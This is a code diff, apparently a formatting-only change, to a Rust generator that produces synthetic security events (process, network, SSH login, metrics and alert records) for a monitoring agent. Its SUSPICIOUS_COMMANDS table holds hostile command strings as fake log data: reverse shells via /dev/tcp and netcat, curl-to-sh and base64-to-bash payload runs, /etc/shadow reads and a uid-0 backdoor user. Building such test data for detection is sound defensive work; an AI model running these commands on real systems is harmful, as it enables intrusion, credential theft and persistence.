@@ -26,13 +26,7 @@ pub struct GeneratorConfig {
 impl GeneratorConfig {
     /// `count` events over the `span` that ends at `end`.
     pub fn recent(count: u64, span: Duration, end: DateTime<Utc>) -> Self {
-        GeneratorConfig {
-            seed: 42,
-            hosts: 50,
-            start: end - span,
-            end,
-            count,
-        }
+        GeneratorConfig { seed: 42, hosts: 50, start: end - span, end, count }
     }
 }
 
@@ -53,10 +47,7 @@ enum Role {
 
 const BENIGN_COMMANDS: &[(&str, &str)] = &[
     ("nginx", "/usr/sbin/nginx -g daemon off;"),
-    (
-        "python3",
-        "/usr/bin/python3 /opt/app/worker.py --queue default",
-    ),
+    ("python3", "/usr/bin/python3 /opt/app/worker.py --queue default"),
     ("sh", "/bin/sh -c /usr/lib/php/sessionclean"),
     ("apt-get", "/usr/bin/apt-get -qq update"),
     ("curl", "/usr/bin/curl -fsS http://127.0.0.1:8080/health"),
@@ -79,56 +70,28 @@ const BENIGN_COMMANDS: &[(&str, &str)] = &[
 const SUSPICIOUS_COMMANDS: &[(&str, &str, Severity)] = &[
     ("cat", "cat /etc/shadow", Severity::High),
     ("tail", "tail -n 10 /etc/shadow", Severity::High),
-    (
-        "bash",
-        "bash -i >& /dev/tcp/{ip}/4444 0>&1",
-        Severity::Critical,
-    ),
+    ("bash", "bash -i >& /dev/tcp/{ip}/4444 0>&1", Severity::Critical),
     ("nc", "nc -e /bin/sh {ip} 9001", Severity::Critical),
     ("sh", "curl -s http://{ip}/x.sh | sh", Severity::High),
     ("wget", "wget -q http://{ip}/m -O /tmp/.m", Severity::Medium),
     ("chmod", "chmod u+s /tmp/.m", Severity::High),
-    (
-        "python3",
-        "python3 -c 'import pty;pty.spawn(\"/bin/bash\")'",
-        Severity::High,
-    ),
-    (
-        "useradd",
-        "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash svc-backup",
-        Severity::Critical,
-    ),
+    ("python3", "python3 -c 'import pty;pty.spawn(\"/bin/bash\")'", Severity::High),
+    ("useradd", "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash svc-backup", Severity::Critical),
     ("crontab", "crontab -l", Severity::Low),
     ("base64", "base64 -d /tmp/.p | bash", Severity::High),
 ];
 
 const ALERTS: &[(&str, Severity)] = &[
-    (
-        "Reverse shell spawned from web server process",
-        Severity::Critical,
-    ),
+    ("Reverse shell spawned from web server process", Severity::Critical),
     ("Credential file read by non-root process", Severity::High),
-    (
-        "SSH brute force: more than 20 failures in 1 minute",
-        Severity::High,
-    ),
-    (
-        "Outbound connection to known C2 port 4444",
-        Severity::Critical,
-    ),
+    ("SSH brute force: more than 20 failures in 1 minute", Severity::High),
+    ("Outbound connection to known C2 port 4444", Severity::Critical),
     ("New setuid binary in /tmp", Severity::High),
-    (
-        "Package manager run outside maintenance window",
-        Severity::Medium,
-    ),
+    ("Package manager run outside maintenance window", Severity::Medium),
 ];
 
-const USERS: &[&str] = &[
-    "root", "www-data", "postgres", "alice", "bob", "deploy", "backup",
-];
-const ATTACK_USERS: &[&str] = &[
-    "admin", "test", "oracle", "ubuntu", "pi", "git", "guest", "root",
-];
+const USERS: &[&str] = &["root", "www-data", "postgres", "alice", "bob", "deploy", "backup"];
+const ATTACK_USERS: &[&str] = &["admin", "test", "oracle", "ubuntu", "pi", "git", "guest", "root"];
 
 /// Produces [`GeneratorConfig::count`] events in time order.
 #[derive(Debug)]
@@ -169,26 +132,13 @@ impl Generator {
                 ))
             })
             .collect();
-        Generator {
-            rng,
-            cfg,
-            hosts,
-            attackers,
-            produced: 0,
-        }
+        Generator { rng, cfg, hosts, attackers, produced: 0 }
     }
 
     fn time(&mut self, i: u64) -> DateTime<Utc> {
-        let span = (self.cfg.end - self.cfg.start)
-            .num_microseconds()
-            .unwrap_or(0)
-            .max(1);
+        let span = (self.cfg.end - self.cfg.start).num_microseconds().unwrap_or(0).max(1);
         let step = span / self.cfg.count.max(1) as i64;
-        let jitter = if step > 1 {
-            self.rng.random_range(0..step)
-        } else {
-            0
-        };
+        let jitter = if step > 1 { self.rng.random_range(0..step) } else { 0 };
         self.cfg.start + Duration::microseconds(step * i as i64 + jitter)
     }
 
@@ -217,8 +167,7 @@ impl Generator {
         let mut e = self.base(Kind::Process, "vigil-agent", time, i);
         let suspicious = self.rng.random_range(0..100) == 0;
         let (name, cmd, sev) = if suspicious {
-            let (n, c, s) =
-                SUSPICIOUS_COMMANDS[self.rng.random_range(0..SUSPICIOUS_COMMANDS.len())];
+            let (n, c, s) = SUSPICIOUS_COMMANDS[self.rng.random_range(0..SUSPICIOUS_COMMANDS.len())];
             let ip = self.attackers[self.rng.random_range(0..self.attackers.len())];
             (n, c.replace("{ip}", &ip.to_string()), s)
         } else {
@@ -242,10 +191,7 @@ impl Generator {
             path: Some(format!("/usr/bin/{name}")),
             cmdline: Some(cmd.clone()),
         });
-        e.message = format!(
-            "process {} by {user}: {cmd}",
-            if exit { "exited" } else { "started" }
-        );
+        e.message = format!("process {} by {user}: {cmd}", if exit { "exited" } else { "started" });
         e.raw = json!({"event": if exit { "exit" } else { "exec" }, "pid": pid, "cmdline": cmd, "user": user});
         e
     }
@@ -263,39 +209,23 @@ impl Generator {
         };
         let c2 = self.rng.random_range(0..400) == 0;
         let (dst, port, process) = if c2 {
-            (
-                self.attackers[self.rng.random_range(0..self.attackers.len())],
-                4444,
-                "bash",
-            )
+            (self.attackers[self.rng.random_range(0..self.attackers.len())], 4444, "bash")
         } else {
             (IpAddr::V4(peer), port, process)
         };
         let sport = self.rng.random_range(32_768..61_000);
-        let (sent, recv) = (
-            self.rng.random_range(60..200_000u64),
-            self.rng.random_range(60..2_000_000u64),
-        );
+        let (sent, recv) = (self.rng.random_range(60..200_000u64), self.rng.random_range(60..2_000_000u64));
         e.activity_id = Some(1);
         e.severity = if c2 { Severity::Medium } else { Severity::Info };
-        e.src = Some(Endpoint {
-            ip: IpAddr::V4(host.ip),
-            port: Some(sport),
-        });
-        e.dst = Some(Endpoint {
-            ip: dst,
-            port: Some(port),
-        });
+        e.src = Some(Endpoint { ip: IpAddr::V4(host.ip), port: Some(sport) });
+        e.dst = Some(Endpoint { ip: dst, port: Some(port) });
         e.protocol = Some(proto.into());
         e.process = Some(Process {
             pid: Some(self.rng.random_range(300..65_000)),
             name: Some(process.into()),
             ..Default::default()
         });
-        e.message = format!(
-            "{process} {proto} {}:{sport} -> {dst}:{port} {sent}B/{recv}B",
-            host.ip
-        );
+        e.message = format!("{process} {proto} {}:{sport} -> {dst}:{port} {sent}B/{recv}B", host.ip);
         e.raw = json!({"bytes_out": sent, "bytes_in": recv, "state": "established"});
         e
     }
@@ -322,14 +252,8 @@ impl Generator {
         e.status_id = Some(if ok { 1 } else { 2 });
         e.severity = if ok { Severity::Info } else { Severity::Low };
         e.user = Some(user.into());
-        e.src = Some(Endpoint {
-            ip,
-            port: Some(port),
-        });
-        e.dst = Some(Endpoint {
-            ip: IpAddr::V4(host.ip),
-            port: Some(22),
-        });
+        e.src = Some(Endpoint { ip, port: Some(port) });
+        e.dst = Some(Endpoint { ip: IpAddr::V4(host.ip), port: Some(22) });
         e.protocol = Some("ssh".into());
         e.process = Some(Process {
             pid: Some(self.rng.random_range(300..65_000)),
@@ -354,11 +278,7 @@ impl Generator {
         };
         let cpu = (base + self.rng.random_range(-10.0..30.0f64)).clamp(0.0, 100.0);
         let mem = self.rng.random_range(20.0..90.0f64);
-        e.severity = if cpu > 90.0 {
-            Severity::Medium
-        } else {
-            Severity::Info
-        };
+        e.severity = if cpu > 90.0 { Severity::Medium } else { Severity::Info };
         e.message = format!("cpu {cpu:.1}% mem {mem:.1}%");
         e.raw = json!({"cpu_pct": (cpu * 10.0).round() / 10.0, "mem_pct": (mem * 10.0).round() / 10.0, "load1": (cpu / 25.0 * 100.0).round() / 100.0});
         e
@@ -383,11 +303,8 @@ impl Generator {
             "Out of memory: Killed process 4242 (python3)",
         ];
         let line = lines[self.rng.random_range(0..lines.len())];
-        e.severity = if line.contains("Killed") || line.contains("dropping") {
-            Severity::Medium
-        } else {
-            Severity::Info
-        };
+        e.severity =
+            if line.contains("Killed") || line.contains("dropping") { Severity::Medium } else { Severity::Info };
         e.message = line.into();
         e.raw = json!({"line": line});
         e
@@ -413,10 +330,7 @@ mod tests {
     use super::*;
 
     fn cfg(seed: u64) -> GeneratorConfig {
-        GeneratorConfig {
-            seed,
-            ..GeneratorConfig::recent(5_000, Duration::hours(24), Utc::now())
-        }
+        GeneratorConfig { seed, ..GeneratorConfig::recent(5_000, Duration::hours(24), Utc::now()) }
     }
 
     #[test]
@@ -438,17 +352,11 @@ mod tests {
             e.validate().unwrap();
             assert!(e.time >= c.start && e.time < c.end);
         }
-        assert!(
-            events.windows(2).all(|w| w[0].time <= w[1].time),
-            "events come in time order"
-        );
+        assert!(events.windows(2).all(|w| w[0].time <= w[1].time), "events come in time order");
         let kinds: std::collections::HashSet<_> = events.iter().map(|e| e.kind).collect();
         assert!(kinds.len() >= 6, "all kinds appear: {kinds:?}");
         let ids: std::collections::HashSet<_> = events.iter().map(|e| e.id).collect();
         assert_eq!(ids.len(), events.len());
-        assert!(
-            events.iter().any(|e| e.severity >= Severity::High),
-            "some events are worth hunting"
-        );
+        assert!(events.iter().any(|e| e.severity >= Severity::High), "some events are worth hunting");
     }
 }
